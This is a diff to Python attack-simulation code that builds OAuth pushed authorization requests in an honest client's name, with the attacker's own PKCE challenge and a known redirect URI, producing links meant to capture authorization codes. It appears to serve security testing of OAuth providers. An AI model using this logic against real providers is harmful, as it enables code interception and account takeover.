@@ -15,26 +15,42 @@ async def link_to_own_push(thief: Thief) -> str:
     The challenge is the thief's own, and so is the redirect URI. Raises
     :class:`NothingCapturedError` when the provider does not take what the app may push.
     """
-    await thief.study_client()
+    return await _link_to_push(thief, OWN_CLIENT_ID, OWN_REDIRECT_URI)
+
+
+async def link_to_push_as_client(thief: Thief) -> str:
+    """A link to a request that the thief has pushed in the honest client's name.
+
+    The challenge is the thief's own. Raises :class:`NothingCapturedError` when the provider asks
+    for more than the name, or the thief does not know where the client has its codes sent.
+    """
+    return await _link_to_push(thief, await _client_id(thief), thief.known_redirect_uri())
+
+
+async def _link_to_push(thief: Thief, pusher: str, redirect_uri: str) -> str:
+    carried = {"client_id": await _client_id(thief)}
     pushed = {
-        "client_id": OWN_CLIENT_ID,
-        "redirect_uri": OWN_REDIRECT_URI,
+        "client_id": pusher,
+        "redirect_uri": redirect_uri,
         "response_type": "code",
         "scope": "openid profile",
         "code_challenge": await thief.verifiers.choose(),
         "code_challenge_method": Method.S256,
     }
-    answer = await thief.http.post(
-        thief.metadata["pushed_authorization_request_endpoint"], data=pushed
-    )
+    endpoint = thief.metadata["pushed_authorization_request_endpoint"]
+    answer = await thief.http.post(endpoint, data=pushed)
     reference = answer.json().get("request_uri")
     if reference is None:
-        raise NothingCapturedError("the provider took no request of the thief's own app")
-    client_id = thief.loot.need("client_id", Leg.OWN).value
-    carried = {"client_id": client_id, "request_uri": reference}
+        raise NothingCapturedError("the provider took no request that the thief has pushed")
+    carried["request_uri"] = reference
     link = f"{thief.metadata['authorization_endpoint']}?{urlencode(carried)}"
     _kept(thief, link, thief.own_exchange, "with a reference of its own")
     return link
+
+
+async def _client_id(thief: Thief) -> str:
+    await thief.study_client()
+    return thief.loot.need("client_id", Leg.OWN).value
 
 
 def written_out(thief: Thief) -> dict[str, str | None]:
